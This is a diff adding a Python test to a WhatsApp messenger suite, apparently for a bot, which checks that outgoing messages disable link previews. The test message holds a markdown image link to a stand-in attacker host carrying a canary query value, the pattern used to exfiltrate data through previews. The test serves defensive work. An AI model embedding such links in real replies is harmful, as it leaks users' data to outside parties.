@@ -66,6 +66,15 @@ async def test_every_part_of_a_long_answer_is_within_whatsapps_limits(
     assert len(graph.sent()) == len(parts) > 5
 
 
+async def test_no_link_is_previewed(
+    graph: GraphDouble, messenger: Messenger, account: ChannelAccount, thread: Thread
+) -> None:
+    """What fetches a preview tells whoever is asked what stands in the address."""
+    await messenger.send(account, thread, outgoing("Look: ![x](https://evil.example/c?q=canary)"))
+    [sent] = graph.sent()
+    assert sent.body["text"]["preview_url"] is False
+
+
 async def test_buttons_stand_below_a_short_text(
     graph: GraphDouble, messenger: Messenger, account: ChannelAccount, thread: Thread
 ) -> None:
